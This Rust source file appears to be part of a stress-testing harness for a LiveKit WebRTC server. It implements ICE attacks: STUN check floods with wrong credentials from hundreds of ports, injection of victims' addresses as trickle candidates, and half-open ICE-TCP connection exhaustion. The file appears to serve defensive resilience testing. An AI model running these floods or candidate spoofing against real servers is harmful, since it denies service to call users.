//! Attacks on ICE, over UDP and TCP.

use super::attack::{Attack, Stint, together};
use super::intruder::{Intruder, room};
use super::target::Target;
use crate::Failure;
use crate::stun;
use livekit_protocol::{TrickleRequest, signal_request::Message as Say};
use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

const INTRUDERS: u32 = 2;
/// Checks of one attacker over UDP.
const CHECKS_PER_SECOND: u32 = 8_000;
/// Ports that strangers send from.
const PORTS: usize = 400;
/// Ports that somebody with the right password sends from.
const REFLEXIVE_PORTS: usize = 7_700;
const TRICKLES_PER_SECOND: u32 = 500;
const CONNECTIONS_PER_SECOND: u32 = 500;
/// Connections that one host keeps half open.
const HALF_OPEN: usize = 3_000;
const CONNECT_MAX: Duration = Duration::from_secs(2);

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "stun-strangers", attackers: 1, run: strangers },
    Attack { name: "stun-known-ufrag", attackers: INTRUDERS, run: known_ufrag },
    Attack { name: "ice-victims-address", attackers: INTRUDERS, run: victims_address },
    Attack { name: "ice-reflexive-ports", attackers: INTRUDERS, run: reflexive_ports },
    Attack { name: "ice-tcp-bad-integrity", attackers: INTRUDERS, run: tcp_bad_integrity },
    Attack { name: "ice-tcp-half-open", attackers: 1, run: tcp_half_open },
];

fn sockets(count: usize) -> Result<Vec<UdpSocket>, Failure> {
    Ok((0..count).map(|_| UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))).collect::<Result<_, _>>()?)
}

/// Checks for nobody, from many ports.
fn strangers(target: &Target, stint: Stint) -> Result<u64, Failure> {
    let sockets = sockets(PORTS)?;
    let mut pace = stint.pace(2 * CHECKS_PER_SECOND);
    while pace.next() {
        let number = pace.count() as usize;
        let ufrag = format!("{:016}:evil", number);
        let check = stun::message(stun::REQUEST, [number as u8; 12], &stun::check(&ufrag), "wrong");
        let media = target.media[number % target.media.len()];
        // What the kernel does not take is lost.
        let _ = sockets[number % PORTS].send_to(&check, media);
    }
    Ok(pace.count())
}

/// Checks for a session that exists, with a wrong password and from many ports.
fn known_ufrag(target: &Target, stint: Stint) -> Result<u64, Failure> {
    together(INTRUDERS as usize, |number| {
        let mut intruder = Intruder::join(target, &room(number), "intruder")?;
        let sockets = sockets(PORTS)?;
        let username = format!("{}:evil", intruder.publisher.ufrag);
        let check = stun::message(stun::REQUEST, [7; 12], &stun::check(&username), "wrong");
        let mut pace = stint.pace(CHECKS_PER_SECOND);
        while pace.next() {
            let _ = sockets[pace.count() as usize % PORTS].send_to(&check, intruder.publisher.server);
            if pace.count().is_multiple_of(512) {
                intruder.breathe()?;
            }
        }
        Ok(pace.count())
    })
}

/// Names the addresses of the honest call as its own candidates, over and over.
fn victims_address(target: &Target, stint: Stint) -> Result<u64, Failure> {
    together(INTRUDERS as usize, |number| {
        let mut intruder = Intruder::join(target, &room(number), "intruder")?;
        let mut pace = stint.pace(TRICKLES_PER_SECOND);
        while pace.next() {
            let victim = target.victims[pace.count() as usize % target.victims.len()];
            intruder.line.say(trickle(victim))?;
            intruder.breathe()?;
        }
        Ok(pace.count())
    })
}

pub(super) fn trickle(address: SocketAddr) -> Say {
    let (ip, port) = (address.ip(), address.port());
    let line = format!("candidate:1 1 udp 2130706431 {ip} {port} typ host");
    let init = serde_json::json!({"candidate": line, "sdpMid": "0", "sdpMLineIndex": 0});
    Say::Trickle(TrickleRequest { candidate_init: init.to_string(), ..Default::default() })
}

/// Checks that are right, each from another port.
fn reflexive_ports(target: &Target, stint: Stint) -> Result<u64, Failure> {
    together(INTRUDERS as usize, |number| {
        let mut intruder = Intruder::join(target, &room(number), "intruder")?;
        let sockets = sockets(REFLEXIVE_PORTS)?;
        let check = intruder.publisher.request()?;
        let mut pace = stint.pace(CHECKS_PER_SECOND);
        while pace.next() {
            let socket = &sockets[pace.count() as usize % sockets.len()];
            let _ = socket.send_to(&check, intruder.publisher.server);
            if pace.count().is_multiple_of(512) {
                intruder.breathe()?;
            }
        }
        Ok(pace.count())
    })
}

/// Connections whose first check names a session that exists and has a wrong integrity.
fn tcp_bad_integrity(target: &Target, stint: Stint) -> Result<u64, Failure> {
    together(INTRUDERS as usize, |number| {
        let mut intruder = Intruder::join(target, &room(number), "intruder")?;
        let username = format!("{}:evil", intruder.publisher.ufrag);
        let check = stun::message(stun::REQUEST, [7; 12], &stun::check(&username), "wrong");
        let frame = [&u16::try_from(check.len())?.to_be_bytes()[..], &check].concat();
        let mut pace = stint.pace(CONNECTIONS_PER_SECOND);
        while pace.next() {
            // Refused, after some time, is what it should be.
            if let Ok(mut stream) = TcpStream::connect_timeout(&target.ice_tcp, CONNECT_MAX) {
                let _ = stream.write_all(&frame);
            }
            intruder.breathe()?;
        }
        Ok(pace.count())
    })
}

/// Connections that begin a frame and never end it.
fn tcp_half_open(target: &Target, stint: Stint) -> Result<u64, Failure> {
    let (mut open, mut pace) = (Vec::new(), stint.pace(CONNECTIONS_PER_SECOND));
    while pace.next() {
        if let Ok(mut stream) = TcpStream::connect_timeout(&target.ice_tcp, CONNECT_MAX) {
            let _ = stream.write_all(&[1]);
            open.push(stream);
        }
        if open.len() > HALF_OPEN {
            open.remove(0);
        }
    }
    Ok(pace.count())
}
